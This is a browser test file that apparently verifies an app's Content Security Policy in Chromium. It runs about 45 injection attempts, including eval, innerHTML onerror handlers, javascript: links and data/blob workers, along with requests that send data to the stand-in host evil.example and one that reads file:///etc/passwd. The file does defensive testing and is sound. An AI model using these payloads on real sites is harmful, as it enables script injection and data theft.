import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bundle } from "../../build/bundle.mjs";
import { type App, launchApp } from "../../build/chromium-host/drive.ts";

/** Ways to run or fetch something that the page did not bring along. Each would call `ran(name)` or reach the outside. */
const payloads: Readonly<Record<string, string>> = {
  "inline script": `add("script", { textContent: "ran('inline script')" })`,
  "script from elsewhere": `add("script", { src: "https://evil.example/x.js" })`,
  "script from data": `add("script", { src: "data:text/javascript,ran('script from data')" })`,
  "script from a blob": `add("script", { src: blob("ran('script from a blob')") })`,
  "module from data": `await import("data:text/javascript,ran('module from data')")`,
  "module from a blob": `await import(blob("ran('module from a blob')"))`,
  eval: `eval("ran('eval')")`,
  "indirect eval": `(0, eval)("ran('indirect eval')")`,
  "new Function": `new Function("ran('new Function')")()`,
  "constructor of a function": `(() => {}).constructor("ran('constructor of a function')")()`,
  "text for a timer": `setTimeout("ran('text for a timer')")`,
  innerHTML: `div.innerHTML = "<img src=x onerror=ran('innerHTML')>"`,
  outerHTML: `div.outerHTML = "<svg onload=ran('outerHTML')>"`,
  insertAdjacentHTML: `div.insertAdjacentHTML("beforeend", "<svg onload=ran('insertAdjacentHTML')>")`,
  DOMParser: `document.adoptNode(new DOMParser().parseFromString("<svg onload=ran('DOMParser')>", "text/html").body)`,
  "handler attribute": `(div.setAttribute("onclick", "ran('handler attribute')"), div.click())`,
  "javascript: link": `add("a", { href: "javascript:ran('javascript: link')" }).click()`,
  "javascript: location": `location.href = "javascript:ran('javascript: location')"`,
  "frame with text": `add("iframe", { srcdoc: "<script>parent.ran('frame with text')</script>" })`,
  "frame of data": `add("iframe", { src: "data:text/html,<script>parent.ran('frame of data')</script>" })`,
  "frame of our own": `add("iframe", { src: "/index.html" })`,
  object: `add("object", { data: "data:text/html,<script>ran('object')</script>" })`,
  embed: `add("embed", { src: "data:text/html,<script>ran('embed')</script>" })`,
  "worker from a blob": `new Worker(blob("postMessage(1)")).onmessage = () => ran("worker from a blob")`,
  "worker from data": `new Worker("data:text/javascript,postMessage(1)").onmessage = () => ran("worker from data")`,
  "worker of ours by another path": `new Worker("/index.html")`,
  "shared worker": `new SharedWorker(blob(""))`,
  "service worker": `await navigator.serviceWorker.register("/sw.js").then(() => ran("service worker"))`,
  WebAssembly: `(new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])), ran("WebAssembly"))`,
  "inline style": `(add("p", { id: "styled" }).setAttribute("style", "color: rgb(1, 2, 3)"), getComputedStyle(document.getElementById("styled")).color === "rgb(1, 2, 3)" && ran("inline style"))`,
  "style element": `(add("style", { textContent: "body { --x: y }" }), getComputedStyle(document.body).getPropertyValue("--x") && ran("style element"))`,
  "style from elsewhere": `add("link", { rel: "stylesheet", href: "https://evil.example/x.css" })`,
  "picture from elsewhere": `await image("https://evil.example/x.png").then(() => ran("picture from elsewhere"))`,
  "fetch elsewhere": `await fetch("https://evil.example/").then(() => ran("fetch elsewhere"))`,
  "fetch of a file": `await fetch("file:///etc/passwd").then(() => ran("fetch of a file"))`,
  "fetch of main": `await fetch("/../main/main.js").then((got) => got.ok && ran("fetch of main"))`,
  socket: `await new Promise((done, fail) => Object.assign(new WebSocket("wss://evil.example/"), { onopen: () => done(ran("socket")), onerror: fail }))`,
  beacon: `navigator.sendBeacon("https://evil.example/", "x")`,
  "event stream": `await new Promise((done, fail) => Object.assign(new EventSource("https://evil.example/"), { onopen: () => done(ran("event stream")), onerror: fail }))`,
  form: `(() => { const form = add("form", { action: "https://evil.example/", method: "post" }); form.submit(); })()`,
  base: `(add("base", { href: "https://evil.example/" }), document.baseURI.includes("evil") && ran("base"))`,
  "meta refresh": `add("meta", { httpEquiv: "refresh", content: "0;url=https://evil.example/" })`,
  "another policy for workers": `trustedTypes.createPolicy("mine", { createScriptURL: (url) => url })`,
  "the default policy again": `trustedTypes.createPolicy("default", { createHTML: (text) => text })`,
  "document.write": `document.write("<script>ran('document.write')</script>")`, // last: it takes the whole page with it
};

describe("the page's policy in Chromium", () => {
  const folder = mkdtempSync(join(tmpdir(), "so-can-bo-policy-"));
  let app: App;
  beforeAll(async () => {
    await bundle();
    app = await launchApp({ userData: folder });
  });
  afterAll(async () => {
    await app.kill();
    rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
  });

  it("is not broken by the page's own start", async () => {
    await app.page.settle();
    expect(app.problems()).toEqual([]);
  });

  it("lets the page's own worker and lazy parts load", async () => {
    const own = await app.page.evaluate<string[]>(`performance.getEntriesByType("resource").map(({ name }) => name)`);
    expect(own.every((url) => url.startsWith("https://so-can-bo.invalid/assets/"))).toBe(true);
    expect(own.length).toBeGreaterThan(0);
  });

  it("lets nothing run or load that the page did not bring", async () => {
    const before = await app.page.evaluate<string>("location.href");
    const { ran, refused, tried } = await tryAll(app);
    expect(ran).toEqual([]);
    expect(tried).toBe(Object.keys(payloads).length);
    expect(refused).toBeGreaterThan(20);
    expect(app.forgive(/./)).toBeGreaterThan(20); // each of them would have failed a story
    expect(await app.page.evaluate("location.href")).toBe(before);
  });

  it("is what stops them: with the policy taken off, the same attempts run", async () => {
    await app.page.protocol("Page.setBypassCSP", { enabled: true });
    await app.page.reload();
    const { ran } = await tryAll(app);
    expect(ran.length).toBeGreaterThan(10);
    expect(ran).toEqual(expect.arrayContaining(["eval", "inline script", "inline style", "WebAssembly"]));
    app.forgive(/./);
  });
});

interface Outcome {
  readonly ran: readonly string[];
  readonly refused: number; // violations the page was told of
  readonly tried: number;
}

/** Try every payload, one after the other. The attempts are problems by themselves, so the page is asked past the driver's checks. */
async function tryAll(app: App): Promise<Outcome> {
  const tries = Object.entries(payloads).map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code}; }]`);
  await raw(
    app,
    `void (async () => {
      const happened = [];
      const ran = (window.ran = (name) => void happened.push(name));
      const div = document.createElement("div");
      document.body.append(div);
      const add = (tag, properties) => { const made = Object.assign(document.createElement(tag), properties); document.body.append(made); return made; };
      const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
      const image = (src) => new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src }));
      let refused = 0;
      document.addEventListener("securitypolicyviolation", () => (refused += 1));
      const tries = [${tries.join(",\n")}];
      const wait = (millis) => new Promise((done) => { const { port1, port2 } = new MessageChannel(); const until = performance.now() + millis;
        port1.onmessage = () => (performance.now() > until ? done() : port2.postMessage(0)); port2.postMessage(0); });
      for (const [, attempt] of tries) await Promise.race([attempt().catch(() => {}), wait(300)]);
      await wait(800);
      window.outcome = { ran: happened, refused, tried: tries.length };
    })()`,
  );
  for (let i = 0; i < 300; i += 1) {
    const outcome = await raw(app, "window.outcome ?? null");
    if (outcome !== null) return outcome as Outcome;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error("the attempts did not end within 30 s");
}

async function raw(app: App, expression: string): Promise<unknown> {
  const reply = await app.page.protocol("Runtime.evaluate", { expression, returnByValue: true });
  if (reply.exceptionDetails !== undefined) throw new Error(JSON.stringify(reply.exceptionDetails));
  return (reply.result as { value?: unknown }).value;
}
